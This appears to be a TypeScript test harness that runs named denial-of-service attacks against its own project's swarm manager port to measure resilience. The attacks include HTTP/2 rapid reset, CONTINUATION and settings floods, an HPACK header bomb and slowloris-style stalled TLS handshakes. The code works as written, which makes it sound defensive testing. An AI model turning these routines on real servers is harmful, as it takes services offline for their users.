/**
 * What somebody without a certificate may do to a manager's port, by name. Each runs to its end or until the manager hangs up, and
 * says in numbers what came of it.
 */
import { openGrpcTransport } from "../../common/rpc/grpc-transport.ts";
import { createClient } from "../../common/rpc/service.ts";
import { NodeCa } from "../../proto/gen/swarm/v1/ca_pb.js";
import { eventually } from "../eventually.ts";
import {
  CALL,
  END_HEADERS,
  encodeHeaders,
  FRAME,
  frame,
  openSecure,
  openSocket,
  PREFACE,
  RawHttp2,
} from "./raw-http2.ts";

/** Where to, and from which address. */
export interface Target {
  readonly address: string;
  readonly from: string;
}

export type Outcome = Readonly<Record<string, number>>;

const CALL_HEADERS = encodeHeaders(CALL);
const begin = (stream: number) => frame(FRAME.headers, END_HEADERS, stream, CALL_HEADERS);
const id = (index: number) => 2 * index + 1;

/** Sends `count` times what `part` makes, in pieces; says how many went out before the connection was over. */
async function flood(
  { address, from }: Target,
  {
    count,
    batch = 500,
    isDeaf = false,
  }: { readonly count: number; readonly batch?: number; readonly isDeaf?: boolean },
  part: (index: number) => Buffer,
  first: Buffer = Buffer.alloc(0),
): Promise<Outcome> {
  const http2 = await RawHttp2.open(address, from);
  await http2.send(first);
  if (isDeaf) http2.socket.pause();
  let sent = 0;
  for (; sent < count && http2.isOpen; sent += batch) {
    await http2.send(Buffer.concat(Array.from({ length: batch }, (_, index) => part(sent + index))));
  }
  const survived = await answersPing(http2, isDeaf);
  http2.socket.destroy();
  return { sent, survived: Number(survived) };
}

/** Whether the connection is still served. */
async function answersPing(http2: RawHttp2, isDeaf: boolean): Promise<boolean> {
  if (isDeaf) http2.socket.resume();
  const before = http2.received.get(FRAME.ping) ?? 0;
  await http2.send(frame(FRAME.ping, 0, 0, Buffer.alloc(8, 1)));
  return await eventually(() => {
    if (http2.isOpen && (http2.received.get(FRAME.ping) ?? 0) === before) throw new Error("no answer");
    return http2.isOpen;
  });
}

/** Opens `count` connections that say nothing, and holds them until all are closed. */
async function silentConnections({ address, from }: Target, count: number): Promise<Outcome> {
  const sockets: Awaited<ReturnType<typeof openSocket>>[] = [];
  const open = () => sockets.filter((socket) => !socket.destroyed).length;
  for (let index = 0; index < count; index += 500) {
    const batch = await Promise.allSettled(Array.from({ length: 500 }, () => openSocket(address, from)));
    for (const each of batch) {
      if (each.status !== "fulfilled") continue;
      each.value.resume();
      sockets.push(each.value);
    }
  }
  await eventually(
    () => {
      if (open() > 0) throw new Error(`${open()} are open`);
    },
    { timeoutMs: 60_000, intervalMs: 100 },
  );
  return { connected: sockets.length };
}

/** Shakes hands and hangs up, `count` times, as many at once as the processor can. */
async function handshakes({ address, from }: Target, count: number): Promise<Outcome> {
  let made = 0;
  for (let index = 0; index < count; index += 100) {
    await Promise.allSettled(
      Array.from({ length: 100 }, async () => {
        const socket = await openSecure(address, from);
        made += 1;
        socket.destroy();
      }),
    );
  }
  return { made, refused: count - made };
}

/** Calls that anybody may make, 200 at once over one connection and another when that is gone. */
async function calls({ address }: Target, count: number): Promise<Outcome> {
  await using transport = openGrpcTransport({ address, tls: { verify: false } });
  const client = createClient(NodeCa, transport);
  let [answered, refused] = [0, 0];
  for (let sent = 0; sent < count; sent += 200) {
    await Promise.all(
      Array.from({ length: 200 }, (_, index) =>
        (index % 2 === 0
          ? client.getRootCertificates({})
          : client.issueCertificate({ token: "x", certificateRequest: "y" })
        ).then(
          () => answered++,
          () => refused++,
        ),
      ),
    );
  }
  return { answered, refused };
}

/** A million DATA frames of a byte each, in requests of 16 KiB less a little, which is what a stranger may send. */
async function tinyFrames({ address, from }: Target, count: number): Promise<Outcome> {
  const bytes = 16_000;
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(bytes, 1);
  let http2 = await RawHttp2.open(address, from);
  let [sent, answered] = [0, 0];
  for (let call = 0; sent < count; call++) {
    if (!http2.isOpen) http2 = await RawHttp2.open(address, from);
    const stream = id(call);
    const body = Buffer.concat([prefix, Buffer.alloc(bytes, 0xff)]);
    const frames = Array.from(body, (byte) => frame(FRAME.data, 0, stream, Buffer.of(byte)));
    await http2.send(begin(stream), ...frames, frame(FRAME.data, 1, stream));
    sent += frames.length;
    await eventually(() => {
      if (http2.isOpen && !http2.ended.has(stream)) throw new Error("not answered");
    });
    if (http2.ended.has(stream)) answered += 1;
  }
  http2.socket.destroy();
  return { sent, answered };
}

/** Says `text` on a fresh connection, secure or not, and waits for the other end to hang up; in ms. */
async function stall(open: typeof openSocket, { address, from }: Target, parts: readonly Buffer[]): Promise<Outcome> {
  const socket = await open(address, from);
  const startMs = performance.now();
  socket.resume();
  for (const part of parts) socket.write(part);
  await eventually(
    () => {
      if (!socket.destroyed) throw new Error("still open");
    },
    { timeoutMs: 60_000, intervalMs: 50 },
  );
  return { closedMs: performance.now() - startMs };
}

/** A request of 10,000 bytes, one a tenth of a second. */
async function endlessRequest({ address, from }: Target): Promise<Outcome> {
  const http2 = await RawHttp2.open(address, from);
  const startMs = performance.now();
  await http2.send(begin(1), frame(FRAME.data, 0, 1, Buffer.of(0, 0, 0, 0x27, 0x10)));
  await eventually(
    async () => {
      if (await http2.send(frame(FRAME.data, 0, 1, Buffer.of(0xff)))) throw new Error("still open");
    },
    { timeoutMs: 60_000, intervalMs: 100 },
  );
  return { closedMs: performance.now() - startMs };
}

/** The first 60 bytes of a TLS 1.3 ClientHello that announces 508. */
const HALF_HELLO = Buffer.concat([Buffer.from("16030101fc010001f80303", "hex"), Buffer.alloc(49, 7)]);

/** A field of 4,000 bytes that enters the dynamic table (RFC 7541, 6.2.1), and then `count` references to it. */
function headerBomb(count: number): Buffer {
  const value = Buffer.alloc(4_000, 97);
  const entry = Buffer.concat([Buffer.of(0x40, 1, 0x78, 127, 0xa1, 0x1e), value]);
  return Buffer.concat([entry, Buffer.alloc(count, 0x80 | 62)]);
}

const SOME_BYTES = Buffer.alloc(16_384, 0);

/** By name. */
export const ATTACKS = {
  "half a TLS hello": (target) => stall(openSocket, target, [HALF_HELLO]),
  "half an HTTP/2 preface": (target) => stall(openSecure, target, [PREFACE.subarray(0, 10)]),
  "no request after the preface": (target) => stall(openSecure, target, [PREFACE, frame(FRAME.settings, 0, 0)]),
  "a request that never ends": endlessRequest,
  "10,000 connections": (target) => silentConnections(target, 10_000),
  "5,000 handshakes": (target) => handshakes(target, 5_000),
  "20,000 calls": (target) => calls(target, 20_000),
  "a million DATA frames of one byte": (target) => tinyFrames(target, 1_000_000),
  "rapid reset": (target) =>
    flood(target, { count: 100_000 }, (index) =>
      Buffer.concat([begin(id(index)), frame(FRAME.reset, 0, id(index), Buffer.of(0, 0, 0, 8))]),
    ),
  "10,000 streams that stay open": (target) => flood(target, { count: 10_000 }, (index) => begin(id(index))),
  "settings flood": (target) => flood(target, { count: 500_000, isDeaf: true }, () => frame(FRAME.settings, 0, 0)),
  "settings of 10,000 values": (target) =>
    flood(target, { count: 1, batch: 1 }, () =>
      frame(FRAME.settings, 0, 0, Buffer.concat(Array.from({ length: 2_700 }, () => Buffer.of(0xf0, 1, 0, 0, 0, 1)))),
    ),
  "ping flood": (target) =>
    flood(target, { count: 500_000, isDeaf: true }, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8))),
  "CONTINUATION flood": (target) =>
    flood(
      target,
      { count: 10_000, batch: 10 },
      () => frame(FRAME.continuation, 0, 1, SOME_BYTES),
      frame(FRAME.headers, 0, 1, CALL_HEADERS),
    ),
  "header bomb": (target) =>
    flood(target, { count: 100, batch: 1 }, (index) =>
      frame(FRAME.headers, END_HEADERS, id(index), Buffer.concat([CALL_HEADERS, headerBomb(12_000)])),
    ),
  "empty DATA frames": (target) => flood(target, { count: 500_000 }, () => frame(FRAME.data, 0, 1), begin(1)),
  "priority flood": (target) =>
    flood(target, { count: 500_000 }, (index) => frame(FRAME.priority, 0, id(index % 1_000), Buffer.of(0, 0, 0, 0, 1))),
  "frames of no known type": (target) => flood(target, { count: 500_000 }, () => frame(0xee, 0, 0, Buffer.alloc(8))),
} as const satisfies Readonly<Record<string, (target: Target) => Promise<Outcome>>>;

export type Attack = keyof typeof ATTACKS;
